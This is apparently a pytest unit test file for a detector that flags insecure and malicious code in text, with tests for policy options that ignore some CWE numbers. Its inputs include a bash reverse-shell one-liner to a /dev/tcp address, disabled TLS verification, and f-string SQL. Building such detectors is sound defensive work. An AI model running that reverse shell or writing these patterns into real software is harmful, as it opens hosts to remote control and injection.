"""Code risk: each form is found where it stands as code, and its safe twin is not."""

from __future__ import annotations

import re

import pytest

from alcaide.instruments.guard.backtracking import plainly_linear
from alcaide.instruments.guard.detectors.code_risk import CODE_RISK, PATTERNS, RISKS
from alcaide.instruments.guard.engine import PatternEngine
from alcaide.kernel.errors import InvalidInput
from tests.unit.instruments.guard.output_safety.looking import corpus, looked, rules

ROWS = corpus("code_risk")


@pytest.mark.parametrize("row", [row for row in ROWS if row["label"]], ids=lambda row: row["rule"])
def test_risky_code_is_found_by_its_rule(row):
    assert row["rule"] in rules(looked(CODE_RISK, row["text"]))


@pytest.mark.parametrize("row", [row for row in ROWS if not row["label"]], ids=lambda row: row["text"][:40])
def test_safe_code_and_prose_about_code_are_let_through(row):
    assert rules(looked(CODE_RISK, row["text"])) == set()


def test_every_rule_has_an_example_in_the_corpus():
    assert {row["rule"] for row in ROWS if row["label"]} == {risk.rule for risk in RISKS}


def test_every_pattern_compiles_in_the_shared_pass():
    assert PatternEngine({"code-risk": PATTERNS})
    assert all(plainly_linear(pattern.regex) or re.compile(pattern.regex) for pattern in PATTERNS)


def test_a_finding_covers_the_code_and_names_its_weakness():
    text = "Use this:\n```python\nrequests.get(url, verify=False)\n```\n"

    (finding,) = looked(CODE_RISK, text).findings

    assert text[finding.span.start : finding.span.end] == "verify=False"
    assert finding.taxonomy[0] == "cwe/CWE-295"
    assert finding.category == "insecure-code"


def test_malicious_code_is_told_from_insecure_code():
    (finding,) = looked(CODE_RISK, "bash -i >& /dev/tcp/192.0.2.7/4444 0>&1").findings

    assert finding.category == "malicious-code"
    assert finding.level == "error"


def test_a_policy_leaves_out_a_weakness_by_number():
    tolerant = CODE_RISK.configured({"ignore": ["CWE-295", "debug-on"]})

    assert rules(looked(tolerant, "r = requests.get(url, verify=False)")) == set()
    assert rules(looked(tolerant, 'cursor.execute(f"SELECT * FROM t WHERE id = {id}")')) == {"sql-format"}


@pytest.mark.parametrize("options", [{"ignore": ["CWE-0"]}, {"ignore": "CWE-89"}, {"skip": []}])
def test_an_option_that_means_nothing_is_refused(options):
    with pytest.raises(InvalidInput):
        CODE_RISK.configured(options)
